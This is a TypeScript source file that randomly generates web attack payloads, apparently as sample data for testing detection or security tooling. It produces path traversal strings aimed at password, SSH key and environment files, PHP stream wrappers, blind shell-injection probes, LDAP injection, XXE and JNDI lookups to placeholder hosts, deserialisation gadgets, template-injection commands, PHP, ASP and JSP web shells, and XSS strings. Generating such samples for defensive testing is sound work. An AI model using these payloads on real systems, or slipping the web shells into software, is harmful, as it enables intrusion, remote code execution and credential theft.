// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sample text contains template syntax
import type { RandomSource } from "./random-source.ts";

/** Files an attacker asks for. */
const FILES = [
  "etc/passwd",
  "etc/shadow",
  "etc/hosts",
  "proc/self/environ",
  "proc/self/cmdline",
  "proc/self/fd/1",
  "var/log/apache2/access.log",
  "var/log/auth.log",
  "root/.ssh/id_rsa",
  "home/admin/.bash_history",
  "windows/win.ini",
  "windows/system32/drivers/etc/hosts",
  "windows/repair/sam",
  "boot.ini",
  "inetpub/wwwroot/web.config",
  "WEB-INF/web.xml",
  "app/config/parameters.yml",
];

const CODE_SCHEMES = ["javascript", "javascript", "vbscript", "JaVaScRiPt", "java%0ascript"];

/** Reading files by path or by a wrapper. */
export function pathPayload(r: RandomSource): string {
  const target = r.pick(FILES);
  const depth = r.int(2, 9);
  const up = r.pick(["../", "..\\", "..%2f", "....//", "..;/", "%2e%2e/", "..%5c", ".././"]);
  const climb = up.repeat(depth);
  const path = up.includes("\\") ? target.replaceAll("/", "\\") : target;
  const tail = r.pick(["", "", "", "%00", "%00.jpg", "?", "\0"]);
  const parameter = r.pick(["page", "file", "lang", "path", "include", "doc", "template"]);
  return r.pick([
    () => `${climb}${path}${tail}`,
    () => `${climb}${path}${tail}`,
    () => `/${climb}${path}${tail}`,
    () => `${parameter}=${climb}${path}${tail}`,
    () => `http://${r.name()}.com/index.php?${parameter}=${climb}${path}`,
    () => `/${r.name()}/${climb}${path}`,
    () => `/${target}`,
    () => `file:///${target}`,
    () => `php://filter/${r.pick(["read=", ""])}convert.base64-encode/resource=${r.name()}.php`,
    () => `php://filter/zlib.deflate/convert.base64-encode/resource=/${target}`,
    () => `http://${r.name()}.com/index.php?${parameter}=php://input`,
    () =>
      `${parameter}=php://filter/convert.iconv.utf-8.utf-16/resource=${r.pick(["index.php", "config"])}`,
    () => `expect://${r.pick(["id", "ls", "whoami"])}`,
    () => `phar://${r.name()}.${r.pick(["jpg", "phar", "zip"])}/${r.name()}.php`,
    () => `zip://${r.name()}.zip#${r.name()}.php`,
    () => `data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+`,
    () => `gopher://127.0.0.1:${r.pick([6379, 3306, 25])}/_${r.name()}`,
    () => `dict://127.0.0.1:6379/info`,
    () => `C:\\${target.replaceAll("/", "\\")}`,
    () => `\\\\${r.int(1, 99)}.1.1.1\\c$\\${target.replaceAll("/", "\\")}`,
  ])();
}

/** Statements of a shell that find out by waiting, printing or comparing. */
export function shellStatement(r: RandomSource): string {
  const a = r.name();
  const b = r.name();
  const word = r.name().toUpperCase();
  const n = r.int(0, 9);
  const gap = r.pick(["; ", ";", " && ", "\n ", " & "]);
  const wait = r.pick([`sleep ${n}`, `ping -c ${n} 127.0.0.1`, `echo ${word}`]);
  const test = r.pick([
    `[ ${n} -ne \${${b}} ]`,
    `[ ${n} -eq $${b} ]`,
    `[ $${b} -gt ${n} ]`,
    `[ "$${b}" != "${word}" ]`,
    `[ -z $${a} ]`,
  ]);
  const source = r.pick([`echo ${word}`, "whoami", "id -u", "hostname", `cat /tmp/${a}`, "uname"]);
  const measure = r.pick([`\${#${a}}`, `$(expr length "$${a}")`, `$(printf "%d" "'$${a}")`]);
  const value = r.pick([`$(${source})`, `$(${source})`, `\`${source}\``]);
  const lead = r.pick(['";', "';", ";", '"\n', "'\n", '"&', "|", "&&", '"|', "", "1;", `${a};`]);
  const decide = r.pick([
    `if ${test}${gap.trim() === "" ? "\n" : "; "}then ${wait}; fi`,
    `if ${test}\nthen ${wait}\nfi`,
    `${test} && ${wait}`,
    `${test} || ${wait}`,
    `while ${test}; do ${wait}; done`,
    `for i in $(seq 1 ${n}); do ${wait}; done`,
  ]);
  const tail = r.pick(["", "", ";", ' "', "&", "#", ";'", '; "']);
  const text = r.pick([
    `${lead} ${a}=${value}${gap}${b}=${measure}${gap}${decide}${tail}`,
    `${lead} ${wait}${gap}${a}=${value}${gap}${b}=${measure}${gap}${decide}${tail}`,
    `${lead} ${a}=${value}${gap}${decide}${tail}`,
    `${lead} ${decide}${tail}`,
    `${lead}echo ${word}$((${n}+${r.int(1, 99)}))$(echo ${word})${word}${tail}`,
    `$(echo ${word}$((${n}*${n}))${word})`,
    `${lead} ${a}=$(python -c "print(${n}*${n})")${gap}${decide}${tail}`,
  ]);
  return r.pick([text, text, text, encodeURIComponent(text)]);
}

/** Filters, includes and documents that make a parser act. */
export function documentPayload(r: RandomSource): string {
  const a = r.name();
  const h = `${r.name()}.com`;
  const file = r.pick(FILES);
  return r.pick([
    () => `*)(${r.pick(["uid", "cn", "objectClass", "mail"])}=*`,
    () => `${a})(|(uid=*)`,
    () => `*)(&(objectClass=*`,
    () => `admin)(&)`,
    () => `*))%00`,
    () => `${a}*)(uid=*))(|(uid=*`,
    () => `*)(|(password=*))`,
    () => `<!--#exec cmd="${r.pick(["id", "ls", "wget http://x", "/bin/ls /"])}"-->`,
    () => `<!--#include ${r.pick(["file", "virtual"])}="${file}"-->`,
    () => `<!--#echo var="${r.pick(["DOCUMENT_ROOT", "HTTP_REFERER", "REMOTE_ADDR"])}"-->`,
    () => `<esi:include src="http://${h}/${a}"/>`,
    () => `<esi:vars name="$(HTTP_COOKIE)"/>`,
    () =>
      `<?xml version="1.0"?><!DOCTYPE ${a} [<!ENTITY x SYSTEM "file:///${file}">]><${a}>&x;</${a}>`,
    () => `<!DOCTYPE ${a} [<!ENTITY % d SYSTEM "http://${h}/${a}.dtd"> %d;]>`,
    () => `<!ENTITY ${a} "&x;&x;&x;&x;">`,
    () => `<xi:include parse="text" href="file:///${file}"/>`,
    () => `<xsl:value-of select="document('http://${h}/')"/>`,
    () => `<xsl:value-of select="php:function('${r.pick(["system", "passthru"])}','id')"/>`,
    () =>
      `<xsl:variable name="r" select="rt:getRuntime()"/><xsl:variable name="p" select="rt:exec($r,'id')"/>`,
    () =>
      `!!python/object/${r.pick(["apply", "new"])}:${r.pick(["os.system", "subprocess.Popen"])} ["id"]`,
    () =>
      `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${h}/"]]]]`,
    () => `!!java.net.URL ["http://${h}/"]`,
    () => `--- !ruby/object:${r.pick(["Gem::Requirement", "ERB", "OpenStruct"])}`,
    () => `O:${r.int(3, 20)}:"${a}":${r.int(1, 3)}:{s:4:"${a}";s:2:"id";}`,
    () => `a:1:{i:0;O:${a.length}:"${a}":0:{}}`,
    () => `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://${h}/${a}"}`,
    () => `c__builtin__\neval\n(V__import__("os").system("id")\ntR.`,
    () => `[#assign ex="freemarker.template.utility.Execute"?new()]\${ex("id")}`,
    () => `[="freemarker.template.utility.Execute"?new()("${r.pick(["id", "ls", "whoami"])}")]`,
    () =>
      `\${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}`,
    () =>
      `{{app.request.query.filter(0,0,1024,{'options':'${r.pick(["system", "passthru", "exec"])}'})}}`,
    () =>
      `{{['id']|${r.pick(["map", "filter", "reduce", "sort"])}('${r.pick(["system", "passthru", "shell_exec"])}')|join}}`,
    () => `{{"id"|${r.pick(["system", "passthru"])}}}`,
    () =>
      `{${r.pick(["$", ""])}{${r.pick(["sleep", "system", "phpinfo", "print"])}(${r.pick(["5", "20", "'id'", ""])})}}`,
    () => `#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))`,
    () => `#set($e="e");$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null)`,
    () => `{{${r.int(2, 999)}|add:${r.int(2, 999)}}}`,
    () =>
      `<%= ${r.pick(["system('id')", "`id`", "File.open('/etc/passwd').read", "7*7", "IO.popen('id').read"])} %>`,
    () => `%x(${r.pick(["id", "ls", "whoami", "uname -a"])})`,
    () => `%x('${r.pick(["id", "ls", "whoami"])}')`,
    () => `elem(System.shell("${r.pick(["id", "ls"])}"), 0)`,
    () => `System.cmd("id", [])`,
    () => `eval($${r.pick(["x", "_GET[0]", "_POST['a']", "code"])});`,
    () => `<?php $${a}=$_GET['${a}'];$${a}($_POST['x']); ?>`,
    () => `<?=$_GET[0]($_GET[1])?>`,
    () =>
      `<?php ${r.pick(["array_map", "array_filter", "usort", "call_user_func"])}('${r.pick(["assert", "system"])}', array($_POST['${a}']));`,
    () => `<%execute request("${a}")%>`,
    () => `<% dim ${a}\n${a} = request("x")\neval ${a} %>`,
    () => `<?php $${a}="${a}"^"x";$x=\${$${a}}["a"];eval("".$x); ?>`,
    () => `<?php $${a}='as'.'sert';$${a}($_POST['x']);?>`,
    () => `<?php $${a} = str_replace('x','','axsxsert'); $${a}(base64_decode($_COOKIE['c'])); ?>`,
    () => `<?php class A{function __construct($f,$v){$f($v);}} new A($_GET['f'],$_GET['v']); ?>`,
    () => `<%eval(Request.Item["${a}"],"unsafe");%>`,
    () =>
      `<%@ page import="java.io.*" %><% Process p=Runtime.getRuntime().exec(request.getParameter("${a}")); %>`,
    () => `\\n/${r.pick(["bin/ls -al", "usr/bin/id", "bin/cat /etc/passwd"])}\\n`,
    () =>
      `\\n${r.pick(["id", "whoami", "ls -la", "netstat -a", "cat /etc/passwd"])}${r.pick(["\\n", ";", "|", "%\\n", ""])}`,
    () =>
      `${r.pick(["", "a", "1"])}${r.pick([");", "|", ";", "||", "&"])}${r.pick(["/usr/bin/id", "/bin/ls -al", "/bin/cat /etc/passwd"])}${r.pick(["", "|", ";", "\\n"])}`,
    () =>
      `${r.pick([";", "&", "|", "&&", "||", "';", '";'])} sleep ${r.int(1, 60)}${r.pick(["", " ", ";", " #", " &", "'"])}`,
    () =>
      `${r.pick(["1", "x", ""])}${r.pick(["|", "&", ";"])} ping -${r.pick(["c", "n", "i"])} ${r.int(5, 40)} 127.0.0.1 ${r.pick(["", "&", "|", ";"])}`,
    () =>
      `${r.pick(CODE_SCHEMES)}:${r.pick(["alert", "confirm", "prompt", "eval"])}(${r.pick(["1", "'x'", "document.cookie", ""])})${r.pick(["", "//", ";", '">', "//'"])}`,
    () =>
      `"${r.pick(CODE_SCHEMES)}:alert(${r.int(0, 9)})">${r.pick(["", "</a>", `<${a}>`, "x</button>"])}`,
    () =>
      `${r.pick(CODE_SCHEMES)}://${r.pick(["%0a", "%0d%0a", "x%0a"])}${r.pick(["alert(1)", "window.alert(1)", "location=name"])}`,
    () =>
      `${r.pick(CODE_SCHEMES)}:${r.pick(["/*", "//", "'/*"])}--></title></style></textarea></script><svg/onload=alert(1)//`,
    () =>
      `data:text/html${r.pick(["", ";charset=utf-8", ";charset=utf-7"])};base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    () => `data:text/html,<script>alert(${r.int(0, 9)})</script>`,
  ])();
}
